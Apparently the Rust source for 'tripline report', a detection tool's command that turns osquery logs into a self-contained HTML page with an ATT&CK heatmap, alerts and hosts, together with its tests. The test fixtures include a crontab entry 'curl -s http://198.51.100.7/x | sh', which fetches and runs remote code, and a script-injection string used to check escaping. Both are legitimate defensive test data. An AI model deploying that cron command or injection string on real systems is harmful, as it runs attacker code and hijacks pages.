//! `tripline report`: the inputs `scan` takes, and the same detection, summed up in one
//! self-contained HTML page: the ATT&CK matrix as a heatmap of observations and alerts, the
//! alerts (sortable, filterable), the hosts, the queries seen and the parse accounting.
//!
//! The page is bounded whatever the inputs' size: events are counted while they stream past
//! ([`Tally`], per query shape and per host, never kept), techniques are looked up once per
//! query shape at the end, and what the page embeds is capped ([`Caps`]), with the number
//! left out stated on the page. It fetches nothing when viewed: CSS, JavaScript and SVG are
//! inline, and its Content-Security-Policy allows only its own script and style (by hash),
//! so no resource can be loaded and no injected script can run.
//!
//! Everything from the logs (host names, command lines in alert titles, query names) is
//! attacker-controlled: it travels as JSON in a `<script type="application/json">` whose
//! `<`, `>` and `&` are escaped, and the script only ever puts it into the page as text.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::PathBuf;
use std::process::ExitCode;

use anyhow::Context;
use base64::Engine;
use rustc_hash::FxHashMap;
use serde::Serialize;
use sha2::{Digest, Sha256};
use tripline_core::alert::{Alert, Level};
use tripline_core::attack::{Catalog, Techniques};
use tripline_core::decode::Summary;
use tripline_core::event::{Event, Kind, Quarantined};
use tripline_core::mapping::Mapper;
use tripline_core::rules::DetectReport;
use tripline_core::stage::Sink;
use tripline_core::tables::Tables;

use crate::inputs::{self, Driver};
use crate::scan::{print_summary, DetectArgs, Setup};

#[derive(clap::Args)]
pub struct ReportArgs {
    /// Files, directories (recursive), or - for stdin. Gzip is detected by content.
    #[arg(value_name = "PATH|-", required = true)]
    pub paths: Vec<PathBuf>,
    /// The HTML file to write (one file: styles, script and data inline).
    #[arg(long, value_name = "FILE")]
    pub out: PathBuf,
    /// Also write the ATT&CK Navigator layer (v4.5) of what fired, as `scan --layer` does.
    #[arg(long, value_name = "FILE")]
    pub layer: Option<PathBuf>,
    /// Write quarantine entries (NDJSON, with reasons) here instead of reporting them on
    /// stderr.
    #[arg(long, value_name = "FILE")]
    pub quarantine: Option<PathBuf>,
    #[command(flatten)]
    pub detect: DetectArgs,
}

pub fn run(mut args: ReportArgs) -> anyhow::Result<ExitCode> {
    let Setup {
        options,
        mut detection,
        mapper,
        iocs,
    } = args.detect.setup()?;
    let inputs = inputs::collect(&args.paths)?;
    // Created before the run, so an unwritable path fails before the inputs are read.
    let out =
        File::create(&args.out).with_context(|| format!("creating {}", args.out.display()))?;

    let mut tally = Tally::default();
    let mut driver = Driver::new(&inputs, options, args.quarantine.as_deref())?;
    for input in &inputs {
        driver.run_tapped(input, None, Some(&mut tally), Some(&mut detection))?;
    }
    let (total, io_failed) = driver.finish()?;
    let report = detection.finish();

    if let Some(path) = &args.layer {
        crate::coverage::write_fired_layer(path, &report.alerts)?;
    }
    let sources: Vec<String> = inputs.iter().map(|i| i.display()).collect();
    let data = PageData::build(
        &tally,
        &report,
        &total,
        &mapper,
        Catalog::embedded(),
        &Caps::default(),
        Meta::now(&args.paths, sources.len()),
    );
    let mut w = BufWriter::new(out);
    write_page(&mut w, &data)
        .and_then(|()| w.flush())
        .with_context(|| format!("writing {}", args.out.display()))?;

    print_summary("report", &report, &total, iocs.as_deref());
    let size = std::fs::metadata(&args.out).map_or(0, |m| m.len());
    eprintln!(
        "tripline report: wrote {} ({size} bytes; {} of {} alerts, {} of {} hosts, {} of {} \
         queries)",
        args.out.display(),
        data.alerts.len(),
        data.totals.alerts,
        data.hosts.len(),
        data.totals.hosts,
        data.queries.len(),
        data.totals.queries,
    );
    if io_failed {
        return Ok(ExitCode::from(2));
    }
    Ok(ExitCode::SUCCESS)
}

/// One query shape as events arrive: the logged name with the tables its rows came from.
/// Techniques are the same for every event of a shape (the mapping goes by pack, query name
/// and tables), so they are looked up once per shape, after the run.
#[derive(Debug)]
struct Shape {
    name: String,
    pack: Option<String>,
    query: Option<String>,
    tables: Tables,
    /// The first event's `attack`, when the parse stage annotated it.
    attack: Techniques,
    events: u64,
}

/// What the report counts while events stream past: per query shape, per host and per
/// (host, shape), and the quarantine by reason. Costs a string comparison or a hash lookup
/// per event; holds one entry per distinct shape, host and (host, shape), never an event.
#[derive(Debug, Default)]
pub struct Tally {
    shapes: Vec<Shape>,
    /// By name and the tables' JSON (`Tables` has no hash).
    shape_index: HashMap<(String, String), usize>,
    /// The last event's shape: events come in runs of one query.
    last_shape: Option<usize>,
    hosts: Vec<HostTally>,
    host_index: HashMap<String, usize>,
    last_host: Option<usize>,
    host_shapes: FxHashMap<(u32, u32), u64>,
    /// Status log lines (no query, no techniques).
    status_events: u64,
    /// Quarantined records by reason.
    quarantined: BTreeMap<String, u64>,
    /// Objects quarantined as a whole, by reason.
    objects_quarantined: BTreeMap<String, u64>,
}

#[derive(Debug)]
struct HostTally {
    name: String,
    events: u64,
}

/// Hosts without a `hostIdentifier` are counted under this name.
const NO_HOST: &str = "";

impl Tally {
    fn shape(&mut self, event: &Event) -> Option<usize> {
        if event.kind != Kind::Result {
            self.status_events += 1;
            return None;
        }
        let name = event.name.as_deref().unwrap_or("");
        if let Some(i) = self.last_shape {
            let s = &self.shapes[i];
            if s.name == name && s.tables == event.tables {
                return Some(i);
            }
        }
        let key = (name.to_string(), event.tables.json().to_string());
        let i = match self.shape_index.get(&key) {
            Some(&i) => i,
            None => {
                self.shapes.push(Shape {
                    name: key.0.clone(),
                    pack: event.pack.clone(),
                    query: event.query.clone(),
                    tables: event.tables.clone(),
                    attack: event.attack.clone(),
                    events: 0,
                });
                self.shape_index.insert(key, self.shapes.len() - 1);
                self.shapes.len() - 1
            }
        };
        self.last_shape = Some(i);
        Some(i)
    }

    fn host(&mut self, event: &Event) -> usize {
        let name = event.host.as_deref().unwrap_or(NO_HOST);
        if let Some(i) = self.last_host {
            if self.hosts[i].name == name {
                return i;
            }
        }
        let i = match self.host_index.get(name) {
            Some(&i) => i,
            None => {
                self.hosts.push(HostTally {
                    name: name.to_string(),
                    events: 0,
                });
                self.host_index
                    .insert(name.to_string(), self.hosts.len() - 1);
                self.hosts.len() - 1
            }
        };
        self.last_host = Some(i);
        i
    }
}

impl Sink for Tally {
    fn event(&mut self, event: &Event) -> io::Result<()> {
        let host = self.host(event);
        self.hosts[host].events += 1;
        if let Some(shape) = self.shape(event) {
            self.shapes[shape].events += 1;
            *self
                .host_shapes
                .entry((host as u32, shape as u32))
                .or_default() += 1;
        }
        Ok(())
    }

    fn quarantined(&mut self, q: &Quarantined) -> io::Result<()> {
        let by_reason = match q.object {
            Some(_) => &mut self.objects_quarantined,
            None => &mut self.quarantined,
        };
        match by_reason.get_mut(q.reason.as_str()) {
            Some(n) => *n += 1,
            None => {
                by_reason.insert(q.reason.clone(), 1);
            }
        }
        Ok(())
    }
}

/// How much of each list the page embeds; the rest is counted and the page says how many
/// were left out. Together they bound the page's size whatever the number of events.
#[derive(Debug, Clone)]
pub struct Caps {
    /// Alerts, most severe first.
    pub alerts: usize,
    /// Hosts, those with the most alerts, then events, first.
    pub hosts: usize,
    /// Query shapes, most events first.
    pub queries: usize,
    /// Hosts listed per alert (its `host_count` gives the rest).
    pub hosts_per_alert: usize,
    /// Characters of any one string from the logs (titles, names).
    pub chars: usize,
    /// Quarantine reasons listed.
    pub reasons: usize,
}

impl Default for Caps {
    fn default() -> Self {
        Caps {
            alerts: 2000,
            hosts: 1000,
            queries: 1000,
            hosts_per_alert: 10,
            chars: 300,
            reasons: 100,
        }
    }
}

/// Where the page's data came from.
#[derive(Debug, Clone, Serialize)]
pub struct Meta {
    pub generated: String,
    pub paths: Vec<String>,
    pub objects: usize,
    pub tripline: &'static str,
    pub attack: String,
}

impl Meta {
    fn now(paths: &[PathBuf], objects: usize) -> Meta {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_secs() as i64);
        Meta {
            generated: tripline_core::rfc3339::format(now),
            paths: paths.iter().map(|p| p.display().to_string()).collect(),
            objects,
            tripline: env!("CARGO_PKG_VERSION"),
            attack: Catalog::embedded().version().to_string(),
        }
    }
}

/// Everything the page shows, as it is embedded (JSON).
#[derive(Debug, Serialize)]
pub struct PageData {
    pub meta: Meta,
    pub totals: Totals,
    pub parse: ParseData,
    pub detect: DetectData,
    /// Tactics in ATT&CK's order, each with its (parent) techniques.
    pub matrix: Vec<TacticData>,
    /// Every technique seen (observed or alerted), by current ID: sub-techniques under
    /// their own ID, rolled up into their parent's cell by the page.
    pub techniques: BTreeMap<String, TechniqueData>,
    /// IDs in events or alerts that the catalog does not know (or that ATT&CK deprecated).
    pub unresolved: BTreeSet<String>,
    pub alerts: Vec<AlertData>,
    pub hosts: Vec<HostData>,
    pub queries: Vec<QueryData>,
}

/// How many there were of each list, embedded or not.
#[derive(Debug, Default, Serialize)]
pub struct Totals {
    pub alerts: usize,
    pub hosts: usize,
    pub queries: usize,
    /// Techniques with at least one observation / alert.
    pub observed: usize,
    pub alerted: usize,
    /// Alerts by severity (all of them, embedded or not).
    pub by_severity: BTreeMap<String, usize>,
}

#[derive(Debug, Serialize)]
pub struct ParseData {
    pub objects: u64,
    pub records: u64,
    pub decoded: u64,
    pub events: u64,
    pub status_events: u64,
    pub quarantined: u64,
    pub warnings: u64,
    pub tables_unknown: u64,
    pub objects_quarantined: u64,
    pub objects_with_errors: u64,
    pub bytes_in: u64,
    pub bytes_decoded: u64,
    pub quarantined_by_reason: BTreeMap<String, u64>,
    pub objects_quarantined_by_reason: BTreeMap<String, u64>,
}

#[derive(Debug, Serialize)]
pub struct DetectData {
    pub matches: u64,
    pub suppressed_stale: u64,
    pub suppressed_initial: u64,
    pub suppressed_by_filter: u64,
    pub below_threshold: u64,
    pub rule_errors: u64,
    pub ioc_hits: u64,
}

#[derive(Debug, Serialize)]
pub struct TacticData {
    pub id: String,
    pub shortname: String,
    pub name: String,
    /// `[id, name]` of each parent technique, by name.
    pub techniques: Vec<(String, String)>,
}

#[derive(Debug, Default, Serialize)]
pub struct TechniqueData {
    pub name: String,
    /// Events that carry the technique.
    pub observed: u64,
    /// Alerts that carry it.
    pub alerts: u64,
    /// Alerts by rule name.
    pub rules: BTreeMap<String, u64>,
}

#[derive(Debug, Serialize)]
pub struct AlertData {
    pub id: String,
    pub severity: Level,
    pub rule: String,
    pub title: String,
    pub count: u64,
    pub hosts: Vec<String>,
    pub host_count: usize,
    pub techniques: Vec<String>,
    pub query: Option<String>,
    pub first_seen: String,
    pub last_seen: String,
}

#[derive(Debug, Serialize)]
pub struct HostData {
    pub name: String,
    pub events: u64,
    /// Alerts naming the host (all of them, embedded or not).
    pub alert_count: u64,
    /// Indexes into [`PageData::alerts`] of the embedded ones.
    pub alerts: Vec<usize>,
    /// Technique ID -> events of the host that carry it.
    pub techniques: BTreeMap<String, u64>,
    /// Techniques of the host's alerts.
    pub alerted: BTreeSet<String>,
}

#[derive(Debug, Serialize)]
pub struct QueryData {
    pub name: String,
    pub pack: Option<String>,
    pub tables: Vec<String>,
    pub techniques: Vec<String>,
    pub events: u64,
    pub hosts: u64,
}

/// The techniques a page names, by current ID, and the IDs that resolved to none.
struct Seen<'c> {
    catalog: &'c Catalog,
    chars: usize,
    techniques: BTreeMap<String, TechniqueData>,
    unresolved: BTreeSet<String>,
}

impl Seen<'_> {
    /// The current ID `id` stands for (a revoked ID's replacement), now in `techniques`.
    fn resolve(&mut self, id: &str) -> Option<String> {
        match self.catalog.resolve(id) {
            Some(t) => {
                if !self.techniques.contains_key(&t.id) {
                    let data = TechniqueData {
                        name: t.name.clone(),
                        ..TechniqueData::default()
                    };
                    self.techniques.insert(t.id.clone(), data);
                }
                Some(t.id.clone())
            }
            None => {
                self.unresolved.insert(cap_str(id, self.chars));
                None
            }
        }
    }

    /// A technique [`Seen::resolve`] returned.
    fn get(&mut self, id: &str) -> &mut TechniqueData {
        self.techniques.get_mut(id).expect("resolved before")
    }
}

/// `s` cut to `max` characters, with `…` when cut.
fn cap_str(s: &str, max: usize) -> String {
    match s.char_indices().nth(max) {
        None => s.to_string(),
        Some((at, _)) => {
            let mut cut = s[..at].to_string();
            cut.push('…');
            cut
        }
    }
}

impl PageData {
    /// The page's data from a run: the tally of its events, the detection's report and the
    /// decoder's totals. Techniques are resolved through `catalog` as the Navigator layers
    /// resolve them, so the heatmap and `--layer` name the same cells.
    pub fn build(
        tally: &Tally,
        report: &DetectReport,
        total: &Summary,
        mapper: &Mapper,
        catalog: &Catalog,
        caps: &Caps,
        meta: Meta,
    ) -> PageData {
        let mut seen = Seen {
            catalog,
            chars: caps.chars,
            techniques: BTreeMap::new(),
            unresolved: BTreeSet::new(),
        };

        // Each shape's techniques, once: as the parse stage put them on its events, or as
        // the detector annotates them (the same mapping call).
        let shape_techniques: Vec<Vec<String>> = tally
            .shapes
            .iter()
            .map(|s| {
                let attack = if s.attack.is_empty() {
                    let query = s.query.as_deref().unwrap_or(&s.name);
                    mapper.event_techniques_for(s.pack.as_deref(), query, &s.name, &s.tables, false)
                } else {
                    s.attack.clone()
                };
                let mut ids: Vec<String> =
                    attack.iter().filter_map(|t| seen.resolve(&t.id)).collect();
                ids.sort();
                ids.dedup();
                ids
            })
            .collect();
        for (shape, ids) in tally.shapes.iter().zip(&shape_techniques) {
            for id in ids {
                seen.get(id).observed += shape.events;
            }
        }

        // Hosts: events, techniques observed, distinct queries.
        let mut host_techniques: Vec<BTreeMap<String, u64>> =
            vec![BTreeMap::new(); tally.hosts.len()];
        let mut shape_hosts = vec![0u64; tally.shapes.len()];
        for (&(host, shape), &n) in &tally.host_shapes {
            shape_hosts[shape as usize] += 1;
            for id in &shape_techniques[shape as usize] {
                *host_techniques[host as usize]
                    .entry(id.clone())
                    .or_default() += n;
            }
        }

        // Alerts, most severe first (then as the detector sorted them: first seen, rule, id).
        let mut order: Vec<&Alert> = report.alerts.iter().collect();
        order.sort_by_key(|a| std::cmp::Reverse(a.severity));
        let mut host_alerts: HashMap<&str, (u64, Vec<usize>, BTreeSet<String>)> = HashMap::new();
        let mut alerts = Vec::new();
        let mut by_severity: BTreeMap<String, usize> = BTreeMap::new();
        for (rank, a) in order.iter().enumerate() {
            *by_severity.entry(a.severity.to_string()).or_default() += 1;
            let ids: BTreeSet<String> = a
                .attack
                .iter()
                .filter_map(|t| seen.resolve(&t.id))
                .collect();
            for id in &ids {
                let t = seen.get(id);
                t.alerts += 1;
                *t.rules.entry(a.rule.name.clone()).or_default() += 1;
            }
            let embedded = rank < caps.alerts;
            for h in &a.hosts {
                let entry = host_alerts.entry(h.as_str()).or_default();
                entry.0 += 1;
                if embedded {
                    entry.1.push(alerts.len());
                }
                entry.2.extend(ids.iter().cloned());
            }
            if embedded {
                alerts.push(AlertData {
                    id: a.id.clone(),
                    severity: a.severity,
                    rule: a.rule.name.clone(),
                    title: cap_str(&a.title, caps.chars),
                    count: a.count,
                    hosts: a
                        .hosts
                        .iter()
                        .take(caps.hosts_per_alert)
                        .map(|h| cap_str(h, caps.chars))
                        .collect(),
                    host_count: a.host_count,
                    techniques: ids.into_iter().collect(),
                    query: a.query.as_deref().map(|q| cap_str(q, caps.chars)),
                    first_seen: a.first_seen.clone(),
                    last_seen: a.last_seen.clone(),
                });
            }
        }

        // Hosts with alerts first, then by events; a host only alerts name (none in the
        // tally) is listed too.
        let mut hosts: Vec<HostData> = tally
            .hosts
            .iter()
            .zip(host_techniques)
            .map(|(h, techniques)| {
                let (alert_count, alerts, alerted) =
                    host_alerts.remove(h.name.as_str()).unwrap_or_default();
                HostData {
                    name: cap_str(&h.name, caps.chars),
                    events: h.events,
                    alert_count,
                    alerts,
                    techniques,
                    alerted,
                }
            })
            .collect();
        for (name, (alert_count, alerts, alerted)) in host_alerts {
            hosts.push(HostData {
                name: cap_str(name, caps.chars),
                events: 0,
                alert_count,
                alerts,
                techniques: BTreeMap::new(),
                alerted,
            });
        }
        hosts.sort_by(|a, b| {
            (b.alert_count, b.events)
                .cmp(&(a.alert_count, a.events))
                .then_with(|| a.name.cmp(&b.name))
        });
        let hosts_total = hosts.len();
        hosts.truncate(caps.hosts);

        let mut queries: Vec<QueryData> = tally
            .shapes
            .iter()
            .zip(shape_techniques)
            .zip(shape_hosts)
            .map(|((s, techniques), hosts)| QueryData {
                name: cap_str(&s.name, caps.chars),
                pack: s.pack.as_deref().map(|p| cap_str(p, caps.chars)),
                tables: s.tables.iter().map(|t| cap_str(t, caps.chars)).collect(),
                techniques,
                events: s.events,
                hosts,
            })
            .collect();
        queries.sort_by(|a, b| b.events.cmp(&a.events).then_with(|| a.name.cmp(&b.name)));
        let queries_total = queries.len();
        queries.truncate(caps.queries);

        let matrix = catalog
            .tactics()
            .iter()
            .map(|tactic| {
                let mut list: Vec<(String, String)> = catalog
                    .techniques_in_tactic(&tactic.shortname)
                    .filter(|t| !t.subtechnique)
                    .map(|t| (t.id.clone(), t.name.clone()))
                    .collect();
                list.sort_by(|a, b| a.1.cmp(&b.1));
                TacticData {
                    id: tactic.id.clone(),
                    shortname: tactic.shortname.clone(),
                    name: tactic.name.clone(),
                    techniques: list,
                }
            })
            .collect();

        let reasons = |m: &BTreeMap<String, u64>| -> BTreeMap<String, u64> {
            m.iter()
                .take(caps.reasons)
                .map(|(k, v)| (cap_str(k, caps.chars), *v))
                .collect()
        };
        let s = &report.stats;
        let Seen {
            techniques,
            unresolved,
            ..
        } = seen;
        PageData {
            meta,
            totals: Totals {
                alerts: report.alerts.len(),
                hosts: hosts_total,
                queries: queries_total,
                observed: techniques.values().filter(|t| t.observed > 0).count(),
                alerted: techniques.values().filter(|t| t.alerts > 0).count(),
                by_severity,
            },
            parse: ParseData {
                objects: total.objects,
                records: total.records,
                decoded: total.decoded,
                events: total.events,
                status_events: tally.status_events,
                quarantined: total.quarantined,
                warnings: total.warnings,
                tables_unknown: total.tables_unknown,
                objects_quarantined: total.objects_quarantined,
                objects_with_errors: total.objects_with_errors,
                bytes_in: total.bytes_in,
                bytes_decoded: total.bytes_decoded,
                quarantined_by_reason: reasons(&tally.quarantined),
                objects_quarantined_by_reason: reasons(&tally.objects_quarantined),
            },
            detect: DetectData {
                matches: s.matches,
                suppressed_stale: s.suppressed_stale,
                suppressed_initial: s.suppressed_initial,
                suppressed_by_filter: s.suppressed_by_filter.values().sum(),
                below_threshold: s.below_threshold,
                rule_errors: s.rule_errors,
                ioc_hits: s.ioc_hits,
            },
            matrix,
            techniques,
            unresolved,
            alerts,
            hosts,
            queries,
        }
    }
}

const STYLE: &str = include_str!("report/report.css");
const SCRIPT: &str = include_str!("report/report.js");

/// `'sha256-…'`, a Content-Security-Policy source allowing exactly this inline text.
fn csp_hash(text: &str) -> String {
    let digest = Sha256::digest(text.as_bytes());
    format!(
        "'sha256-{}'",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

/// JSON that can sit inside a `<script>` element: `<`, `>` and `&` (which JSON only has
/// inside strings) become `\u003c`, `\u003e`, `\u0026`, so no `</script>` or `<!--` can
/// end or change the element, whatever the strings hold.
fn script_json(value: &impl Serialize) -> serde_json::Result<String> {
    let json = serde_json::to_string(value)?;
    let mut out = String::with_capacity(json.len() + json.len() / 16);
    for c in json.chars() {
        match c {
            '<' => out.push_str("\\u003c"),
            '>' => out.push_str("\\u003e"),
            '&' => out.push_str("\\u0026"),
            c => out.push(c),
        }
    }
    Ok(out)
}

/// Writes the page: the data as JSON, rendered by the inline script.
pub fn write_page(out: &mut dyn Write, data: &PageData) -> io::Result<()> {
    let json = script_json(data)?;
    let csp = format!(
        "default-src 'none'; script-src {}; style-src {}; img-src data:; base-uri 'none'; \
         form-action 'none'",
        csp_hash(SCRIPT),
        csp_hash(STYLE)
    );
    write!(
        out,
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
         <meta http-equiv=\"Content-Security-Policy\" content=\"{csp}\">\n\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n\
         <title>tripline report</title>\n<link rel=\"icon\" href=\"data:,\">\n<style>{STYLE}</style>\n</head>\n<body>\n\
         <noscript>This report is drawn by its inline script: open it with JavaScript enabled.</noscript>\n\
         <main id=\"report\"></main>\n\
         <script type=\"application/json\" id=\"tripline-data\">{json}</script>\n\
         <script>{SCRIPT}</script>\n</body>\n</html>\n"
    )
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use tripline_core::decode::Origin;
    use tripline_core::stage::{self, Detection, StageOptions};
    use tripline_core::{Config, Detector, Parallelism, RuleSet};

    use super::*;

    /// `hosts` hosts, each logging `per_host` crontab rows that the suspicious-cron rule
    /// fires on (one alert per host), and one line that is not JSON.
    fn log(hosts: usize, per_host: usize) -> Vec<u8> {
        let mut out = Vec::new();
        for h in 0..hosts {
            for r in 0..per_host {
                let record = serde_json::json!({
                    "name": "pack_tripline-common_crontab",
                    "hostIdentifier": format!("host-{h:05}"),
                    "unixTime": 1794883269 + r,
                    "counter": 93,
                    "columns": {"minute": "*", "hour": "*", "day_of_month": "*", "month": "*",
                                "day_of_week": "*", "command": "curl -s http://198.51.100.7/x | sh",
                                "path": "/var/spool/cron/crontabs/www"},
                    "action": "added",
                });
                out.extend_from_slice(record.to_string().as_bytes());
                out.push(b'\n');
            }
        }
        out.extend_from_slice(b"{not json\n");
        out
    }

    fn run(log: Vec<u8>, caps: &Caps) -> (PageData, Summary, String) {
        let options = StageOptions {
            parallelism: Parallelism::Inline,
            ..StageOptions::default()
        };
        let mapper = Arc::new(Mapper::builtin().unwrap());
        let detector = Detector::new(
            RuleSet::builtin().unwrap(),
            Some(Arc::clone(&mapper)),
            Config::default(),
        );
        let mut detection = Detection::new(detector, Parallelism::Inline);
        let mut tally = Tally::default();
        let total = stage::parse(
            io::Cursor::new(log),
            Origin::path("test.ndjson"),
            &options,
            &mut tally,
            Some(&mut detection),
        )
        .unwrap();
        let report = detection.finish();
        let meta = Meta::now(&[PathBuf::from("test.ndjson")], 1);
        let data = PageData::build(
            &tally,
            &report,
            &total,
            &mapper,
            Catalog::embedded(),
            caps,
            meta,
        );
        let mut page = Vec::new();
        write_page(&mut page, &data).unwrap();
        (data, total, String::from_utf8(page).unwrap())
    }

    #[test]
    fn counts_add_up() {
        let (data, total, _) = run(log(7, 3), &Caps::default());
        assert_eq!((total.events, total.quarantined), (21, 1));
        assert_eq!(
            data.parse.records,
            data.parse.decoded + data.parse.quarantined
        );
        let reasons: u64 = data.parse.quarantined_by_reason.values().sum();
        assert_eq!(reasons, total.quarantined);
        assert_eq!(data.totals.alerts, 7);
        assert_eq!(data.alerts.len(), 7);
        assert_eq!(data.hosts.len(), 7);
        assert!(data
            .hosts
            .iter()
            .all(|h| h.events == 3 && h.alert_count == 1));
        assert_eq!(data.queries.len(), 1);
        let q = &data.queries[0];
        assert_eq!((q.events, q.hosts), (21, 7));
        assert_eq!(q.tables, ["crontab"]);
        // Every event of the query carries its techniques; every alert the rule's.
        let cron = &data.techniques["T1053.003"];
        assert_eq!((cron.observed, cron.alerts), (21, 7));
        assert_eq!(cron.rules["osquery_suspicious_cron"], 7);
        assert_eq!(q.techniques, ["T1053.003"]);
        assert!(data.hosts.iter().all(|h| h.techniques["T1053.003"] == 3));
        assert!(data.hosts.iter().all(|h| h.alerted.contains("T1053.003")));
    }

    #[test]
    fn the_page_is_capped_and_does_not_grow_with_the_events() {
        let caps = Caps {
            alerts: 40,
            hosts: 30,
            ..Caps::default()
        };
        let (small, _, small_page) = run(log(100, 1), &caps);
        assert_eq!((small.totals.alerts, small.alerts.len()), (100, 40));
        assert_eq!((small.totals.hosts, small.hosts.len()), (100, 30));
        // Embedded hosts list only embedded alerts.
        assert!(small
            .hosts
            .iter()
            .flat_map(|h| &h.alerts)
            .all(|&i| i < small.alerts.len()));
        // Ten times the hosts, alerts and events: the same page, give or take digits.
        let (big, _, big_page) = run(log(1000, 2), &caps);
        assert_eq!((big.totals.alerts, big.alerts.len()), (1000, 40));
        assert_eq!(big.parse.events, 2000);
        let (a, b) = (small_page.len() as f64, big_page.len() as f64);
        assert!((b - a).abs() / a < 0.02, "{a} -> {b} bytes");
    }

    #[test]
    fn long_strings_are_cut() {
        assert_eq!(cap_str("abcdef", 3), "abc…");
        assert_eq!(cap_str("abc", 3), "abc");
        assert_eq!(cap_str("ééé", 2), "éé…");
    }

    #[test]
    fn embedded_json_cannot_end_its_element() {
        let evil = "</script><script>alert(1)</script><!-- & \u{2028}";
        let json = script_json(&serde_json::json!({"host": evil})).unwrap();
        assert!(!json.contains(['<', '>', '&']), "{json}");
        let back: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(back["host"], evil);
    }

    #[test]
    fn the_policy_allows_exactly_the_inline_script_and_style() {
        let (_, _, page) = run(log(1, 1), &Caps::default());
        let csp = csp_hash(SCRIPT);
        assert!(page.contains(&format!("script-src {csp};")), "{csp}");
        assert!(page.contains(&format!("<script>{SCRIPT}</script>")));
        assert!(page.contains(&format!("<style>{STYLE}</style>")));
        assert!(page.contains("default-src 'none'"));
        // Nothing to fetch: no external reference in the page (the SVG namespace is a
        // name, not a request).
        let script = SCRIPT.replace("\"http://www.w3.org/2000/svg\"", "");
        for needle in [
            "src=", "http://", "https://", "@import", "url(http", "fetch(",
        ] {
            assert!(
                !STYLE.contains(needle) && !script.contains(needle),
                "{needle}"
            );
        }
        // A known value: SHA-256 of the empty string.
        assert_eq!(
            csp_hash(""),
            "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
        );
    }
}
